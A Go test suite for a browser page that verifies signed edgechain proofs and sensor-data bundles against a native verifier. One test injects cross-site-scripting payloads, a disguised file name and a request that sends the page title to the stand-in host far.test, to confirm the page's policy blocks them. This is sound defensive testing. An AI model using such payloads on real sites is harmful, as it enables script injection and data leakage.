package page

import (
	"bytes"
	"compress/gzip"
	"crypto/ed25519"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"edgechain.example/build/testenv"
	"edgechain.example/build/testenv/program"
	"edgechain.example/lightchain"
)

const (
	built   = "../../cmd/internal/verifypage/verify.html"
	vectors = "../../lightchain/testdata/vectors"
)

// What is committed is what the sources make. How it is packed is not compared: that is the business of Node's zlib.
func TestThePageIsWhatItsSourcesMake(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the page")
	}
	modules := testenv.Modules(t, "esbuild")
	file := filepath.Join(t.TempDir(), "verify.html")
	cmd := exec.Command(testenv.Program(t, "node"), "build.mjs", file)
	cmd.Env = append(os.Environ(), "NODE_PATH="+modules)
	if output, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, output)
	}
	made, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	committed, err := os.ReadFile(built)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(made, committed) {
		return
	}
	wantFrame, wantProgram := unpacked(t, made)
	frame, program := unpacked(t, committed)
	if frame != wantFrame || program != wantProgram {
		t.Errorf("the page is not what its sources make: NODE_PATH=%s node build/page/build.mjs cmd/internal/verifypage/verify.html", modules)
	}
}

var packed = regexp.MustCompile(`(id="program">)([^<]*)(</script>)`)

// unpacked returns a page without its program, and the program: see loader.js.
func unpacked(t *testing.T, html []byte) (frame, program string) {
	t.Helper()
	found := packed.FindSubmatch(html)
	if found == nil {
		t.Fatal("a page without a program")
	}
	var b []byte
	held, bits := uint32(0), 0
	for text := strings.ReplaceAll(string(found[2]), "~", "<"); text != ""; text = text[min(2, len(text)):] {
		if len(text) > 1 {
			held, bits = held<<13|(uint32(text[0]-'#')*91+uint32(text[1]-'#')), bits+13
		} else {
			held, bits = held<<6|uint32(text[0]-'#'), bits+6
		}
		for ; bits >= 8; bits -= 8 {
			b = append(b, byte(held>>(bits-8)))
		}
	}
	z, err := gzip.NewReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	text, err := io.ReadAll(z)
	if err != nil {
		t.Fatal(err)
	}
	return packed.ReplaceAllString(string(html), "$1$3"), string(text)
}

// drive opens the page as it is built.
func drive(t *testing.T, runs ...Run) []Shown {
	t.Helper()
	return Open(t, "../..", runs...)
}

// A vector is one published case; see its README.
type vector struct {
	name                       string
	Kind, Expect, Check, Trust string
	Bytes, Other               []byte
}

func published(t *testing.T, kinds ...string) (all []vector) {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(vectors, "*.json"))
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range files {
		b, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		var v vector
		if err := json.Unmarshal(b, &v); err != nil {
			t.Fatal(err)
		}
		if v.name = strings.TrimSuffix(filepath.Base(file), ".json"); slices.Contains(kinds, v.Kind) {
			all = append(all, v)
		}
	}
	return all
}

// groups are vectors of one trust file each, not too many at once: they are compared with each other, too.
func groups(all []vector) (groups [][]vector) {
	const most = 80
	at := map[string]int{}
	for _, v := range all {
		i, there := at[v.Trust]
		if !there || len(groups[i]) == most {
			i = len(groups)
			at[v.Trust], groups = i, append(groups, nil)
		}
		groups[i] = append(groups[i], v)
	}
	return groups
}

func runOf(group []vector, plain bool) Run {
	r := Run{Trust: group[0].Trust, Plain: plain}
	for _, v := range group {
		r.Files = append(r.Files, File{v.name, v.Bytes})
	}
	return r
}

// Each proof, bundle and fork of the vectors, in the page as it is published: once as a file, and once come over plain http, where
// browsers have no WebCrypto.
func TestTheVectorsInABrowser(t *testing.T) {
	all := groups(published(t, "proof", "bundle", "fork"))
	var runs []Run
	for _, group := range all {
		runs = append(runs, runOf(group, false), runOf(group, true))
	}
	builds := program.NewBuilds("../..", "edgeverify")
	defer builds.Remove()
	edgeverify := filepath.Join(builds.Native(t), "edgeverify")
	looked, unlike, compared := 0, 0, 0
	for i, s := range drive(t, runs...) {
		group, plain := all[i/2], i%2 == 1
		if s.Subtle == plain || s.Secure == plain {
			t.Errorf("run %d has WebCrypto: %v", i, s.Subtle)
		}
		found := map[string]Article{}
		for _, a := range s.Articles {
			if a.Together == "" {
				found[a.File] = a
			}
		}
		for _, v := range group {
			looked++
			a := found[v.name]
			if ok := a.Check == "" && a.Verdict != ""; ok != (v.Expect == "ok") || !ok && v.Check != "" && a.Check != v.Check {
				unlike++
				t.Errorf("%s: the page says %q, check %q (%s); the vector says %s %s", v.name, a.Verdict, a.Check, a.Why, v.Expect, v.Check)
			}
		}
		if !plain {
			compared += saysTheSame(t, s.Articles, ask(t, edgeverify, group))
		}
	}
	if looked < 600 || compared < 300 {
		t.Errorf("%d vectors were looked at, %d compared with what edgeverify says", looked, compared)
	}
	t.Logf("%d verdicts, %d unlike those of the vectors; %d reports compared with those of edgeverify", looked, unlike, compared)
}

func TestPairsInABrowser(t *testing.T) {
	all := published(t, "pair")
	var runs []Run
	for _, v := range all {
		runs = append(runs, Run{Trust: v.Trust, Files: []File{{"one", v.Bytes}, {"other", v.Other}}})
	}
	for i, s := range drive(t, runs...) {
		together := 0
		for _, a := range s.Articles {
			if a.Together != "" {
				together++
			}
		}
		if apart := together > 0; apart != (all[i].Expect == "fail") {
			t.Errorf("%s: the page tells of %d contradictions, the vector says %s", all[i].name, together, all[i].Expect)
		}
		if together > 0 && s.Articles[0].Together == "" {
			t.Errorf("%s: what both files show together does not stand first", all[i].name)
		}
	}
}

// The page says of each vector what edgeverify says, in the same words. What stands in brackets is in the words of the verifier that
// found it.
func saysTheSame(t *testing.T, page []Article, said map[string]Said) (compared int) {
	t.Helper()
	for _, a := range page {
		v, there := said[a.File]
		if a.Together != "" || !there {
			continue
		}
		compared++
		a.Compare(t, &v)
		if v.Verdict != "verified" && plainly(a.Why) != plainly(v.Message) {
			t.Errorf("%s: the page says\n%s\nedgeverify\n%s", a.File, a.Why, v.Message)
		}
	}
	return compared
}

// plainly leaves out what a verifier adds in its own words: what stands in brackets, and behind a colon.
func plainly(text string) string {
	if i := strings.Index(text, " ("); i >= 0 && !strings.HasPrefix(text, "What a person") {
		return text[:i]
	}
	if before, _, found := strings.Cut(text, ": "); found {
		return before
	}
	return text
}

// ask has edgeverify look at vectors of one trust file.
func ask(t *testing.T, edgeverify string, group []vector) map[string]Said {
	t.Helper()
	dir := t.TempDir()
	trust := filepath.Join(dir, "auditor.trust")
	args := []string{"--trust", trust, "--output", "json", "--"}
	if err := os.WriteFile(trust, []byte(group[0].Trust), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, v := range group {
		file := filepath.Join(dir, v.name)
		if err := os.WriteFile(file, v.Bytes, 0o600); err != nil {
			t.Fatal(err)
		}
		args = append(args, file)
	}
	output, _ := exec.Command(edgeverify, args...).Output() // its exit code tells of what it found
	said := map[string]Said{}
	for line := range bytes.Lines(output) {
		var v Said
		if err := json.Unmarshal(line, &v); err != nil {
			t.Fatalf("%v: %.200s", err, line)
		}
		if v.File != "" {
			said[filepath.Base(v.File)] = v
		}
	}
	return said
}

// What comes from elsewhere stays text, and what got into the page all the same would not run, and could ask nobody.
func TestNothingFromElsewhereRuns(t *testing.T) {
	good := one(t, "proof-good-everything")
	const evil = `<img src=x onerror=alert(1)>` + "\u202e\x1b[31m.edgeproof"
	s := drive(t, Run{Trust: good.Trust, Files: []File{{evil, good.Bytes}, {"<script>alert(2)</script>", []byte(evil)}}},
		Run{Script: `document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror="document.title=1"><p style="color:red" onclick="document.title=2">'), document.querySelector('p[onclick]').click(), getComputedStyle(document.querySelector('p[onclick]')).color`},
		Run{Script: `(() => { const s = document.createElement('script'); s.textContent = 'document.title = 3'; document.body.append(s); return document.title })()`},
		Run{Script: `fetch('https://far.test/').then(() => 'came', e => 'no: ' + e.message)`},
		Run{Script: `new Promise(done => { const i = new Image(); i.onload = i.onerror = e => done(e.type); i.src = 'https://far.test/?' + document.title })`},
		Run{Script: `(() => { try { return String(eval('1+1')) } catch (e) { return 'no: ' + e.name } })()`},
	)
	if s[0].Images != 0 || len(s[0].Articles) != 2 {
		t.Errorf("%d images, %d files", s[0].Images, len(s[0].Articles))
	}
	for _, foreign := range []string{"\u202e", "\x1b"} {
		if strings.Contains(s[0].Text, foreign) {
			t.Errorf("the page has %q as it is", foreign)
		}
	}
	if !strings.Contains(s[0].Text, `\u202e\x1b[31m.edgeproof"`) {
		t.Errorf("the file's name is not shown escaped:\n%.600s", s[0].Text)
	}
	if said := fmt.Sprint(s[1].Said); said == "rgb(255, 0, 0)" {
		t.Error("a style of an attribute counts")
	}
	if said := fmt.Sprint(s[2].Said); said != "Edgechain verifier" {
		t.Errorf("a script that was put in ran: %s", said)
	}
	for i, want := range map[int]string{3: "no: ", 4: "error", 5: ""} {
		if said := fmt.Sprint(s[i].Said); !strings.HasPrefix(said, want) {
			t.Errorf("run %d: %s", i, said)
		}
	}
	for i := range s[1:] {
		if i != 4 && len(s[i+1].Errors) == 0 && i+1 < 5 {
			t.Errorf("run %d: the policy refused nothing", i+1)
		}
	}
}

// What mail programs do to a file is undone as edgeverify does it, and told in its words; what cannot be undone is refused by both.
func TestMailedFilesInABrowser(t *testing.T) {
	builds := program.NewBuilds("../..", "edgeverify")
	defer builds.Remove()
	edgeverify := filepath.Join(builds.Native(t), "edgeverify")
	good := one(t, "proof-good-everything")
	pem := string(lightchain.EncodeText(good.Bytes))
	base := base64.StdEncoding.EncodeToString(good.Bytes)
	lines := strings.SplitAfter(strings.TrimSuffix(pem, "\n"), "\n")
	var zipped bytes.Buffer
	z := gzip.NewWriter(&zipped)
	if _, err := z.Write([]byte("> " + strings.Join(lines, "> "))); err != nil || z.Close() != nil {
		t.Fatal(err)
	}
	var group []vector
	for name, text := range map[string]string{
		"strict": pem, "windows": strings.ReplaceAll(pem, "\n", "\r\n"), "quoted": "> " + strings.Join(lines, "> "), "twice": ">>" + strings.Join(lines, ">>"),
		"within": "From: a\n\n" + pem + "\nregards", "indented": "    " + strings.Join(lines, "    "), "blank": strings.Join(lines, "\n\n"),
		"unended": strings.TrimSuffix(pem, "\n"), "marked": "\ufeff" + pem, "alone": base, "spaced": strings.ReplaceAll(pem, "\n", "\u00a0\n"),
		"zipped": zipped.String(), "cut": zipped.String()[:zipped.Len()-9], "more": strings.Replace(pem, "A", "AA", 1), "two": pem + pem,
		"prose": "not evidence of anything", "base64": "evidence", "label": "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n", "json": `{"a":1}`,
		"page": "<!doctype html><p>hello", "empty": "", "wide": "\u3000" + strings.Join(lines, "\u3000"), "tabbed": "\v" + strings.Join(lines, "\v"),
	} {
		group = append(group, vector{name: name, Trust: good.Trust, Bytes: []byte(text)})
	}
	said := ask(t, edgeverify, group)
	shown := drive(t, runOf(group, false))[0]
	if n := saysTheSame(t, shown.Articles, said); n != len(group) {
		t.Errorf("%d of %d files are in the page", n, len(group))
	}
	for _, a := range shown.Articles {
		undone := strings.Join(said[a.File].Undone, ", ")
		if told := slices.ContainsFunc(a.Facts, func(fact []string) bool { return strings.HasSuffix(fact[1], "undone first: "+undone) }); a.Verdict == "verified" && told != (undone != "") {
			t.Errorf("%s: edgeverify has undone %q; the page says %q", a.File, undone, a.Facts)
		}
	}
}

// A file above the limit is refused in a sentence, and while the page looks at a large one it moves, though it hashes by hand.
func TestLargeFilesInABrowser(t *testing.T) {
	const dropped = `(() => {
		const transfer = new DataTransfer();
		transfer.items.add(new File([new Uint8Array(32 * 2 ** 20 + 1)], 'large'));
		document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }));
	})()`
	bundle, chain := bundleOf(t, 1, 12_000, temperature)
	var zipped bytes.Buffer
	z := gzip.NewWriter(&zipped)
	if _, err := z.Write(make([]byte, 32<<20+1)); err != nil || z.Close() != nil {
		t.Fatal(err)
	}
	s := drive(t, Run{Script: dropped}, Run{Plain: true, Trust: "chain " + chain, Files: []File{{"many.edgebundle", bundle}}}, Run{Trust: chain, Files: []File{{"large.gz", zipped.Bytes()}}})
	if len(s[0].Articles) != 1 || s[0].Articles[0].Verdict != "unreadable" || !strings.Contains(s[0].Articles[0].Why, "It has 32.0 MiB, and this page takes files of 32 MiB at most") {
		t.Errorf("of a file above the limit it says %+v", s[0].Articles)
	}
	if len(s[2].Articles) != 1 || s[2].Articles[0].Verdict != "unreadable" || !strings.Contains(s[2].Articles[0].Why, "It has > 32 MiB") {
		t.Errorf("of a file that unzipped is above the limit it says %+v", s[2].Articles)
	}
	if len(s[1].Articles) != 1 || s[1].Articles[0].Verdict != "verified" || len(s[1].Articles[0].Readings) != 100 || s[1].Articles[0].Charts != 1 {
		t.Errorf("of a bundle of %d bytes it says %.1000v", len(bundle), s[1].Articles)
	}
	if s[1].Ticks < 5 {
		t.Errorf("while it looked at %d bytes the page moved %d times", len(bundle), s[1].Ticks)
	}
}

// temperature is an entry of one reading.
func temperature(i int) lightchain.Entry {
	return lightchain.Entry{Received: int64(i), Source: "mqtt:plant:line1/press-07", Payload: fmt.Appendf(nil, `{"temperature":%d.5}`, i%50), Decoder: "json/1",
		Readings: []lightchain.Reading{{Device: "press-07", Name: "temperature", Unit: "Cel", Value: lightchain.Float(float64(i%50) + 0.5)}}}
}

// bundleOf returns a bundle of one block, and its chain, which a key of that number signs.
func bundleOf(t *testing.T, key byte, entries int, entry func(int) lightchain.Entry) (bundle []byte, chain string) {
	t.Helper()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	signer, err := lightchain.NewSigner(ed25519.NewKeyFromSeed(bytes.Repeat([]byte{key}, ed25519.SeedSize)))
	must(err)
	genesis, err := lightchain.NewGenesis(lightchain.Genesis{}, signer.Public(), 0, lightchain.Clock{}).Sign(signer)
	must(err)
	tip, err := lightchain.Begin(genesis)
	must(err)
	var tree lightchain.CompactRange
	var items []byte
	for i := range entries {
		e := entry(i)
		b, err := e.Append(nil)
		must(err)
		tree.Append(lightchain.LeafHash(b), nil)
		items = lightchain.AppendBundleEntry(items, b)
	}
	head, err := tip.Header(tree.Root(), uint64(entries), 1, lightchain.Clock{Boot: 1}).Sign(signer)
	must(err)
	encoded, err := head.Header.Append(nil)
	must(err)
	bundle, err = lightchain.AppendBundleStart(nil, []*lightchain.SignedHeader{genesis}, []lightchain.Hash{genesis.Hash()})
	must(err)
	bundle, err = lightchain.AppendBundleEnd(append(lightchain.AppendBundleBlock(bundle, encoded), items...), head, nil)
	must(err)
	return bundle, genesis.ChainID().String()
}

// Whom to trust is for whoever asks to say, and not for whoever made the files: a trust file among them takes the place of no other,
// and where there was none yet the page says whose word it goes by.
func TestATrustFileAmongTheFiles(t *testing.T) {
	mine, chain := bundleOf(t, 1, 3, temperature)
	other, otherChain := bundleOf(t, 2, 3, temperature)
	trust, otherTrust := []byte("chain "+chain+"\n"), []byte("chain "+otherChain+"\n")
	files := []File{{"press-07.edgeproof", otherTrust}, {"mine", mine}, {"other", other}}
	s := drive(t, Run{Trust: "chain " + chain, Files: files}, Run{Trust: "chain", Files: files}, Run{Drop: true, Files: append([]File{{"a trust.txt", trust}}, files...)},
		Run{Drop: true, Files: []File{{"cr", append([]byte("# old:\r"+string(otherTrust)), trust...)}, {"other", other}}},
		Run{Drop: true, Files: []File{{"latin", append(trust, "# M\xfcller\n"...)}, {"mine", mine}}})
	want := [][]string{{"not_judged", "verified", "not_trusted"}, {"not_judged"}, {"not_judged", "verified", "not_trusted"}, {"not_trusted"}, nil}
	for i := range s {
		var verdicts []string
		for _, a := range s[i].Articles {
			verdicts = append(verdicts, a.Verdict)
		}
		if !slices.Equal(verdicts, want[i]) {
			t.Errorf("run %d: %q, and not %q; of whom it trusts it says %s", i, verdicts, want[i], s[i].Trusted)
		}
	}
	if a := s[0].Articles[0]; !strings.Contains(a.Why, "It is a trust file, and was not taken") {
		t.Errorf("of a trust file among the files it says %s", a.Why)
	}
	for i, part := range map[int]string{0: "asked for: 0.", 2: `what the file "a trust.txt" says`, 4: "not UTF-8"} {
		if !strings.Contains(s[i].Trusted, part) || i == 0 && !strings.HasSuffix(s[i].Trusted, part) {
			t.Errorf("run %d: of whom it trusts it says %s", i, s[i].Trusted)
		}
	}
}

// No verdict is shown by a trust that is not in the field any more, nor while it is judged anew.
func TestNoVerdictOutlivesItsTrust(t *testing.T) {
	const change = `(() => {
		const field = document.getElementById('trust');
		field.value = field.value.replace(/[a-z2-7]{52}/, '%s');
		field.dispatchEvent(new Event('input'));
		return document.querySelectorAll('article').length + document.getElementById('trusted').textContent;
	})()`
	mine, chain := bundleOf(t, 1, 3, temperature)
	_, other := bundleOf(t, 2, 3, temperature)
	s := drive(t, Run{Trust: chain, Files: []File{{"mine", mine}}, Script: fmt.Sprintf(change, other)}, Run{Trust: chain, Files: []File{{"mine", mine}}, Script: fmt.Sprintf(change, "")})
	for i, want := range []string{"not_trusted", "waiting"} {
		if said := fmt.Sprint(s[i].Said); said != "0" || len(s[i].Articles) != 1 || s[i].Articles[0].Verdict != want {
			t.Errorf("right after the trust has changed it shows %q, then %+v, and not %q", said, s[i].Articles, want)
		}
	}
}

// Of a bundle more entries than are kept it lists what the gateway lost, wherever that stands, and says that it does not show all.
func TestLossesBeyondWhatIsKept(t *testing.T) {
	builds := program.NewBuilds("../..", "edgeverify")
	defer builds.Remove()
	const last = 66_000
	bundle, chain := bundleOf(t, 1, last+1, func(i int) lightchain.Entry {
		if i == last {
			return lightchain.Entry{Received: int64(i), Source: "agent:gap", Payload: []byte(`{"lost":1}`), Flags: lightchain.ByAgent}
		}
		return temperature(i)
	})
	group := []vector{{name: "many", Trust: "chain " + chain + "\n", Bytes: bundle}}
	s := drive(t, runOf(group, false))[0]
	if n := saysTheSame(t, s.Articles, ask(t, filepath.Join(builds.Native(t), "edgeverify"), group)); n != 1 {
		t.Fatalf("%d files are in the page", n)
	}
	facts := fmt.Sprint(s.Articles[0].Facts)
	for _, part := range []string{`entry 66000: agent:gap {"lost":1}`, "of 465 entries more the readings are not shown"} {
		if !strings.Contains(facts, part) {
			t.Errorf("it does not say %q: %s", part, facts)
		}
	}
}

// A note about another history is told to whoever trusts nobody yet, too.
func TestANoteThatDoesNotHoldBeforeAnybodyIsTrusted(t *testing.T) {
	v := one(t, "proof-good-note-head-link-other")
	s := drive(t, Run{Files: []File{{"note", v.Bytes}}})[0]
	if len(s.Articles) != 1 || s.Articles[0].Verdict != "waiting" || !strings.Contains(s.Articles[0].Why, "Nor does what a person said hold here: ") {
		t.Errorf("it says %+v", s.Articles)
	}
}

// Of many files that all contradict each other the first pairs are told, and how many more there are, as edgeverify says.
func TestManyContradictionsInABrowser(t *testing.T) {
	var run Run
	for n := range 9 {
		bundle, chain := bundleOf(t, 1, n+1, temperature)
		run.Trust, run.Files = chain, append(run.Files, File{fmt.Sprint("history-", n), bundle})
	}
	s := drive(t, run)[0]
	if want := "9 files: 9 VERIFIED; 32 CONTRADICTIONS between two of them, and between 4 pairs more that are not listed."; s.Tally != want || len(s.Articles) != 41 {
		t.Errorf("%d articles, and not 41: it says %q, and not %q", len(s.Articles), s.Tally, want)
	}
}

// On paper, where nothing can be pressed, stands that there are more readings. The largest numbers have a course, too.
func TestReadingsThatAreNotShown(t *testing.T) {
	bundle, chain := bundleOf(t, 1, 103, func(i int) lightchain.Entry {
		e := temperature(i)
		e.Readings[0].Value = lightchain.Float([]float64{math.MaxFloat64, -math.MaxFloat64, 0}[i%3])
		return e
	})
	s := drive(t, Run{Trust: chain, Files: []File{{"largest", bundle}}, Print: true})[0]
	if len(s.Articles) != 1 || s.Articles[0].Charts != 1 || !strings.Contains(s.Text, "3 more") || strings.Contains(s.Text, "Remove all files") {
		t.Errorf("printed it says\n%s", s.Text)
	}
}

// What a person does beside choosing files: text is dragged into a field, a file is removed by the keyboard, the page is saved.
func TestThePageUnderTheHand(t *testing.T) {
	const dragged = `['trust', 'paste', 'works'].map(id => {
		const transfer = new DataTransfer();
		transfer.setData('text/plain', 'chain');
		return document.getElementById(id).dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }));
	}).join()`
	s := drive(t, Run{Script: dragged}, Run{Files: []File{{"a", []byte("a")}}, Script: `document.querySelector('.remove').click(), document.activeElement.id`},
		Run{Script: `document.querySelectorAll('script').length`})
	for i, want := range []string{"true,true,false", "choose", "2"} {
		if said := fmt.Sprint(s[i].Said); said != want {
			t.Errorf("run %d: %s, and not %s", i, said, want)
		}
	}
	if len(s[1].Articles) != 0 {
		t.Errorf("a file that was removed is there: %+v", s[1].Articles)
	}
}

func one(t *testing.T, name string) vector {
	t.Helper()
	for _, v := range published(t, "proof", "bundle", "fork") {
		if v.name == name {
			return v
		}
	}
	t.Fatalf("no vector %s", name)
	return vector{}
}

// Both tables of messages have the same keys and the same places to fill, and say nothing in the other's language.
func TestBothLanguagesAreWhole(t *testing.T) {
	const script = `const [a, b] = (await Promise.all(['./english.mjs', './chinese.mjs'].map(f => import(f)))).map(m => m.default);
		process.stdout.write(JSON.stringify([a, b]))`
	output, err := exec.Command(testenv.Program(t, "node"), "--input-type=module", "-e", script).Output()
	if err != nil {
		t.Fatal(err)
	}
	var tables [2]map[string]string
	if err := json.Unmarshal(output, &tables); err != nil {
		t.Fatal(err)
	}
	english, chinese := tables[0], tables[1]
	if len(english) < 200 || len(english) != len(chinese) {
		t.Errorf("%d messages in English, %d in Chinese", len(english), len(chinese))
	}
	hole, han := regexp.MustCompile(`\{\d\}`), regexp.MustCompile(`\p{Han}`)
	holes := func(text string) []string {
		all := hole.FindAllString(text, -1)
		slices.Sort(all)
		return slices.Compact(all)
	}
	for key, text := range english {
		other, there := chinese[key]
		switch {
		case !there || strings.TrimSpace(other) == "" || strings.TrimSpace(text) == "":
			t.Errorf("%s: not in both tables", key)
		case text == other:
			t.Errorf("%s: the same in both: %q", key, text)
		case !slices.Equal(holes(text), holes(other)):
			t.Errorf("%s: %v and %v are to be filled in", key, holes(text), holes(other))
		case !han.MatchString(other) && regexp.MustCompile(`[a-zA-Z]{3}`).MatchString(hole.ReplaceAllString(other, "")):
			t.Errorf("%s: no Chinese: %q", key, other)
		case han.MatchString(text):
			t.Errorf("%s: no English: %q", key, text)
		}
	}
}

// In Chinese no sentence of the page is left in English.
func TestThePageInChinese(t *testing.T) {
	good := one(t, "proof-good-everything")
	s := drive(t, Run{Language: "zh-CN", Trust: good.Trust, Files: []File{{"a.edgeproof", good.Bytes}}},
		Run{Language: "de-DE"}, Run{Language: "de-DE", Script: `document.querySelector('[data-language=zh]').click(), document.documentElement.lang`})
	if s[0].Language != "zh-Hans" || s[1].Language != "en" || s[2].Language != "zh-Hans" {
		t.Errorf("languages %s, %s, %s", s[0].Language, s[1].Language, s[2].Language)
	}
	if words := regexp.MustCompile(`\b(the|that|which|files|by the)\b`).FindAllString(s[0].Text, -1); len(words) > 0 {
		t.Errorf("in Chinese it says %q", words)
	}
	if len(s[0].Articles) != 1 || s[0].Articles[0].Words != "验证通过" {
		t.Errorf("of a good proof it says %+v", s[0].Articles)
	}
}
